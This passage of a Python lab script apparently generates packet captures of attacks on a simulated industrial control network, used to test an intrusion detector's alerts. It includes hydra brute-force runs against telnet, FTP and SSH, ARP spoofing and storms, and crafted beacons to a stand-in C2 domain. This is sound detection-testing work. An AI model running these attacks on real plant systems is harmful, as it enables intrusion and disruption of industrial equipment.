    words = write_words(lab, WORDLIST_30, "words30.txt")
    with temp_user():
        start_telnetd(lab, h["plc"])
        with lab.capture(sw, "br0", out):
            lab.run(h["rogue"], "hydra", "-I", "-f", "-t", "4", "-l", USER, "-P", words, "telnet://" + OT["plc"],
                    timeout=100)


def hydra_ftp(lab, out):
    """Attacker 10.77.1.66 -> pyftpdlib on 10.77.1.20: hydra -t 4, user operator, 30 passwords
    (the last one right). Alert: brute_force (ftp)."""
    sw, h = lab.ot_cell("plc", "rogue")
    words = write_words(lab, WORDLIST_30, "words30.txt")
    lab.peer_bg(h["plc"], "ftp-server", OT["plc"], FTP_USER, FTP_PASSWORD)
    lab.wait_listen(h["plc"], 21)
    with lab.capture(sw, "br0", out):
        lab.run(h["rogue"], "hydra", "-I", "-f", "-t", "4", "-l", FTP_USER, "-P", words, "ftp://" + OT["plc"],
                timeout=100)


def ftp_login_ok(lab, out):
    """EWS -> pyftpdlib on 10.77.1.20: login operator, PWD, LIST, RETR recipe_01.csv, QUIT.
    Alert: cleartext_credentials; no brute_force."""
    sw, h = lab.ot_cell("ews", "plc")
    lab.peer_bg(h["plc"], "ftp-server", OT["plc"], FTP_USER, FTP_PASSWORD)
    lab.wait_listen(h["plc"], 21)
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "ftp-login", OT["plc"], FTP_USER, FTP_PASSWORD)


def telnet_login_ok(lab, out):
    """EWS -> telnetd on 10.77.1.20: one login (otwrec_op), `id; uname -s`, exit.
    Alert: cleartext_credentials; no brute_force."""
    sw, h = lab.ot_cell("ews", "plc")
    with temp_user():
        start_telnetd(lab, h["plc"])
        with lab.capture(sw, "br0", out):
            lab.peer(h["ews"], "telnet-login", OT["plc"], USER, USER_PASSWORD)


def ssh_to_plc(lab, out):
    """HMI polls Modbus on 10.77.1.20 for 12 s (so it is a PLC); meanwhile EWS runs
    `ssh otwrec_op@10.77.1.20 'uname -a; id'` (OpenSSH, password). Alert: remote_access_session."""
    sw, h = _modbus_cell(lab, "ews", "hmi")
    with temp_user():
        start_sshd(lab, h["plc"], OT["plc"])
        with lab.capture(sw, "br0", out):
            hmi = lab.peer_bg(h["hmi"], "modbus-poll", OT["plc"], "12")
            time.sleep(3)
            lab.run(h["ews"], "sshpass", "-p", USER_PASSWORD, "ssh", "-F", "/dev/null", "-o", "StrictHostKeyChecking=no",
                    "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
                    "-o", "PreferredAuthentications=password", f"{USER}@{OT['plc']}", "uname -a; id")
            lab.wait_done(hmi, 30)


def hydra_ssh(lab, out):
    """Attacker 10.77.1.66 -> OpenSSH sshd on 10.77.1.20: hydra -t 4, user otwrec_op, 20 passwords
    (the last one right). Alert: brute_force (ssh)."""
    sw, h = lab.ot_cell("plc", "rogue")
    words = write_words(lab, WORDLIST_20, "words20.txt")
    with temp_user():
        start_sshd(lab, h["plc"], OT["plc"])
        with lab.capture(sw, "br0", out):
            lab.run(h["rogue"], "hydra", "-I", "-f", "-t", "4", "-l", USER, "-P", words, "ssh://" + OT["plc"],
                    timeout=100)


# ---------------------------------------------------------------- scenarios: layer 2

def arp_spoof(lab, out):
    """Host 10.77.5.10 (02:00:00:00:05:10) pings gateway 10.77.5.1 (02:00:00:00:05:01) every 0.5 s for
    8 s; from 2 s on the attacker 02:00:00:00:05:66 (10.77.5.66) sends 20 unsolicited ARP replies
    "10.77.5.1 is-at 02:00:00:00:05:66" to the host, one every 200 ms (scapy). Alert: arp_spoofing."""
    sw = lab.switch()
    lab.plug("gw", sw, "10.77.5.1/24", "02:00:00:00:05:01")
    host = lab.plug("host", sw, "10.77.5.10/24", "02:00:00:00:05:10")
    att = lab.plug("att", sw, "10.77.5.66/24", "02:00:00:00:05:66")
    with lab.capture(sw, "br0", out):
        ping = lab.bg(host, "ping", "-n", "-c", "16", "-i", "0.5", "10.77.5.1", name="ping")
        time.sleep(2)
        lab.peer(att, "arp-spoof", "eth0")
        ping.wait(20)


def arp_gratuitous_storm(lab, out):
    """02:00:00:00:05:77 (10.77.5.77) sends 500 gratuitous ARP requests in ~3 s (scapy); 10.77.5.10
    is on the same bridge. Alert: arp_spoofing (ARP storm)."""
    sw = lab.switch()
    lab.plug("host", sw, "10.77.5.10/24", "02:00:00:00:05:10")
    storm = lab.plug("storm", sw, "10.77.5.77/24", "02:00:00:00:05:77")
    with lab.capture(sw, "br0", out):
        lab.peer(storm, "garp-storm", "eth0", "500")


def ip_conflict(lab, out):
    """Two hosts with 10.77.5.30 (02:00:00:00:05:30 and 02:00:00:00:05:31) and 10.77.5.10: .10 pings
    .30 (two ARP replies), then each .30 pings .10 (ARP from both MACs). Real kernel ARP. Alert: ip_conflict."""
    sw = lab.switch()
    obs = lab.plug("obs", sw, "10.77.5.10/24", "02:00:00:00:05:10")
    a = lab.plug("dupa", sw, "10.77.5.30/24", "02:00:00:00:05:30")
    b = lab.plug("dupb", sw, "10.77.5.30/24", "02:00:00:00:05:31")
    with lab.capture(sw, "br0", out):
        lab.run(obs, "ping", "-n", "-c", "3", "-i", "0.5", "10.77.5.30", check=False)
        time.sleep(0.5)
        lab.run(a, "ping", "-n", "-c", "3", "-i", "0.5", "10.77.5.10", check=False)
        time.sleep(0.5)
        lab.x(obs, "ip", "neigh", "flush", "all")
        lab.run(b, "ping", "-n", "-c", "3", "-i", "0.5", "10.77.5.10", check=False)
        time.sleep(0.5)
        lab.x(obs, "ip", "neigh", "flush", "all")
        lab.run(obs, "ping", "-n", "-c", "2", "-i", "0.5", "10.77.5.30", check=False)


# ---------------------------------------------------------------- scenarios: crafted (no network)

T0 = 1717243200.0  # 2024-06-01 12:00:00 UTC; crafted captures are byte-for-byte reproducible
GW_MAC = mac_for("10.77.1.1")


class Flow:
    """A TCP connection written packet by packet (handshake, data with ACKs, FIN)."""

    def __init__(self, pkts, clock, cmac, smac, cip, sip, sport, dport, cseq=1000, sseq=5000):
        self.pkts, self.clock = pkts, clock
        self.c = (cmac, smac, cip, sip, sport, dport)
        self.cseq, self.sseq = cseq, sseq

    def _emit(self, from_client: bool, flags: str, payload: bytes = b"", dt: float = 0.0005):
        from scapy.all import IP, TCP, Ether, Raw

        cmac, smac, cip, sip, sport, dport = self.c
        if from_client:
            p = Ether(src=cmac, dst=smac) / IP(src=cip, dst=sip, ttl=64, id=0) / TCP(
                sport=sport, dport=dport, flags=flags, seq=self.cseq, ack=self.sseq if "A" in flags else 0,
                window=64240)
        else:
            p = Ether(src=smac, dst=cmac) / IP(src=sip, dst=cip, ttl=52, id=0) / TCP(
                sport=dport, dport=sport, flags=flags, seq=self.sseq, ack=self.cseq, window=65535)
        if payload:
            p = p / Raw(payload)
        self.clock[0] += dt
        p.time = self.clock[0]
        self.pkts.append(p)
        adv = len(payload) + (1 if ("S" in flags or "F" in flags) else 0)
        if from_client:
            self.cseq += adv
        else:
            self.sseq += adv

    def open(self, rtt: float = 0.02):
        self._emit(True, "S")
        self._emit(False, "SA", dt=rtt)
        self._emit(True, "A")

    def client(self, data: bytes, rtt: float = 0.02):
        self._emit(True, "PA", data)
        self._emit(False, "A", dt=rtt)

    def server(self, data: bytes, rtt: float = 0.02):
        self._emit(False, "PA", data, dt=rtt)
        self._emit(True, "A")

    def close(self, rtt: float = 0.02):
        self._emit(True, "FA")
        self._emit(False, "FA", dt=rtt)
        self._emit(True, "A")


def _modbus_polls(pkts, clock, n: int) -> None:
    import struct

    hmi, plc = OT["hmi"], OT["plc"]
    f = Flow(pkts, clock, mac_for(hmi), mac_for(plc), hmi, plc, 40512, 502)
    f.open(rtt=0.0003)
    for i in range(n):
        f.client(struct.pack(">HHHB", i + 1, 0, 6, 1) + bytes.fromhex("0300000004"), rtt=0.001)
        f.server(struct.pack(">HHHB", i + 1, 0, 11, 1) + bytes.fromhex("0308") + bytes.fromhex("0007") * 4,
                 rtt=0.001)
        clock[0] += 1.0
    f.close(rtt=0.0003)


def internet_from_plc(_lab, out):
    """Crafted with scapy: HMI 10.77.1.30 polls Modbus on 10.77.1.20 (FC3), then the PLC opens
    TCP 443 to 93.184.216.34 with a TLS 1.2 ClientHello (SNI update.example.com) answered by a
    ServerHello, then a plain HTTP GET (Host evil-c2.example.net) to 203.0.113.66:80 answered 200.
    Alert: internet_connection (a PLC talks to the internet); ioc_match with an indicator list."""
    from scapy.all import load_layer, wrpcap

    load_layer("tls")
    from scapy.layers.tls.extensions import ServerName, TLS_Ext_ServerName, TLS_Ext_SupportedGroups
    from scapy.layers.tls.handshake import TLSClientHello, TLSServerHello
    from scapy.layers.tls.record import TLS

    pkts, clock = [], [T0]
    _modbus_polls(pkts, clock, 3)
    plc = OT["plc"]
    f = Flow(pkts, clock, mac_for(plc), GW_MAC, plc, "93.184.216.34", 49822, 443)
    f.open(rtt=0.09)
    hello = TLS(msg=[TLSClientHello(
        version=0x0303, gmt_unix_time=0x665B0D00, random_bytes=bytes(range(28)), sid=b"",
        ciphers=[0xC02F, 0xC030, 0x009E], comp=[0],
        ext=[TLS_Ext_ServerName(servernames=[ServerName(servername=b"update.example.com")]),
             TLS_Ext_SupportedGroups(groups=[23, 24])])])
    f.client(bytes(hello), rtt=0.09)
    shello = TLS(msg=[TLSServerHello(version=0x0303, gmt_unix_time=0x665B0D01, random_bytes=bytes(range(28, 56)),
                                     sid=b"", cipher=0xC02F, comp=0)])
    f.server(bytes(shello), rtt=0.09)
    f.close(rtt=0.09)
    clock[0] += 2.0
    h = Flow(pkts, clock, mac_for(plc), GW_MAC, plc, "203.0.113.66", 49830, 80)
    h.open(rtt=0.12)
    h.client(b"GET /check?id=otw-plc-1 HTTP/1.1\r\nHost: evil-c2.example.net\r\nUser-Agent: otw-plc/2.7.1\r\n"
             b"Accept: */*\r\n\r\n", rtt=0.12)
    h.server(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 4\r\n\r\nnoop", rtt=0.12)
    h.close(rtt=0.12)
    wrpcap(out, pkts)


def ioc_dns(_lab, out):
    """Crafted with scapy: 10.77.1.30 asks DNS server 10.77.1.53 for evil-c2.example.net (A), the
    answer is 203.0.113.66; then 10.77.1.30 opens TCP to 203.0.113.66:8080, sends a small beacon,
    closes. Alert: ioc_match (domain and address) with an indicator list."""
    from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, Ether, wrpcap

    hmi, dns = OT["hmi"], "10.77.1.53"
    pkts, clock = [], [T0]
    q = Ether(src=mac_for(hmi), dst=mac_for(dns)) / IP(src=hmi, dst=dns, id=0) / UDP(sport=53411, dport=53) / DNS(
        id=0x4f21, rd=1, qd=DNSQR(qname="evil-c2.example.net", qtype="A"))
    q.time = clock[0]
    clock[0] += 0.004
    a = Ether(src=mac_for(dns), dst=mac_for(hmi)) / IP(src=dns, dst=hmi, id=0) / UDP(sport=53, dport=53411) / DNS(
        id=0x4f21, qr=1, rd=1, ra=1, qd=DNSQR(qname="evil-c2.example.net", qtype="A"),
        an=DNSRR(rrname="evil-c2.example.net", type="A", ttl=300, rdata="203.0.113.66"))
    a.time = clock[0]
    pkts += [q, a]
    clock[0] += 0.01
    f = Flow(pkts, clock, mac_for(hmi), GW_MAC, hmi, "203.0.113.66", 50244, 8080)
    f.open(rtt=0.11)
    f.client(b"POST /b HTTP/1.1\r\nHost: evil-c2.example.net:8080\r\nContent-Length: 9\r\n\r\nhost=hmi1", rtt=0.11)
    f.server(b"HTTP/1.1 204 No Content\r\n\r\n", rtt=0.11)
    f.close(rtt=0.11)
    wrpcap(out, pkts)


internet_from_plc.crafted = True
ioc_dns.crafted = True

SCENARIOS = [
    s7_stop, s7_start, s7_download, s7_upload, s7_delete, s7_set_clock, s7_password, s7_benign_reads,
    modbus_restart, modbus_listen_only, modbus_benign, modbus_new_writer, modbus_malformed,
    iec104_reset_process, iec104_clock_sync, iec104_clock_sync_rogue,
    opcua_method_firmware, opcua_benign, profinet_dcp_set, bacnet_reinit_dcc, ads_ops, slmp_ops, srtp_ops,
    nmap_syn_scan, nmap_sweep, nmap_ics_scripts, arp_sweep,
    hydra_telnet, hydra_ftp, ftp_login_ok, telnet_login_ok, ssh_to_plc, hydra_ssh,
    arp_spoof, arp_gratuitous_storm, ip_conflict,
    internet_from_plc, ioc_dns,
]


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=os.path.join(HERE, "..", "..", "data", "attacks"))
    ap.add_argument("--list", action="store_true")
    ap.add_argument("scenario", nargs="*")
    args = ap.parse_args()
    by_name = {f.__name__: f for f in SCENARIOS}
    if args.list:
        for f in SCENARIOS:
            print(f.__name__)
        return 0
    unknown = [s for s in args.scenario if s not in by_name]
    if unknown:
        ap.error(f"unknown scenario(s): {', '.join(unknown)}")
    chosen = [by_name[s] for s in args.scenario] if args.scenario else SCENARIOS
    needs_net = any(not getattr(f, "crafted", False) for f in chosen)
    if needs_net and os.geteuid() != 0:
        ap.error("run as root (network namespaces)")
    out_dir = os.path.abspath(args.out)
    os.makedirs(out_dir, exist_ok=True)

    for ns in our_namespaces():
        log(f"deleting stale namespace {ns}")
        delete_namespace(ns)
    added_route = False
    if needs_net:
        routes = sh("ip", "route", "show", "type", "blackhole", capture=True).stdout
        if LAB_NET not in routes:
            sh("ip", "route", "add", "blackhole", LAB_NET)
            added_route = True
    failed = []
    tmp_root = tempfile.mkdtemp(prefix="otwrec-")
    try:
        for f in chosen:
            name = f.__name__
            tmp = os.path.join(tmp_root, name)
            os.makedirs(tmp)
            tmp_pcap = os.path.join(tmp, name + ".pcap")
            log(f"{name}")
            started = time.time()
            lab = None if getattr(f, "crafted", False) else Lab(tmp)
            try:
                f(lab, tmp_pcap)
            except Exception:  # noqa: BLE001 - report and go on with the next scenario
                traceback.print_exc()
                failed.append(name)
                continue
            finally:
                if lab:
                    lab.close()
            dest = os.path.join(out_dir, name + ".pcap")
            shutil.copyfile(tmp_pcap, dest)
            os.chmod(dest, 0o644)
            size = os.path.getsize(dest)
            log(f"  -> {dest} ({size} bytes, {time.time() - started:.1f} s)")
            if size > 500_000:
                log(f"  WARNING: {name}.pcap is over 500 KB")
    finally:
        for ns in our_namespaces():
            delete_namespace(ns)
        if added_route:
            sh("ip", "route", "del", "blackhole", LAB_NET, check=False)
        sh("userdel", USER, check=False)
        for d in _made_run_sshd:
            shutil.rmtree(d, ignore_errors=True)
        if os.environ.get("OTWREC_KEEP_TMP"):
            log(f"logs kept in {tmp_root}")
        else:
            shutil.rmtree(tmp_root, ignore_errors=True)
    if failed:
        log(f"FAILED: {', '.join(failed)}")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
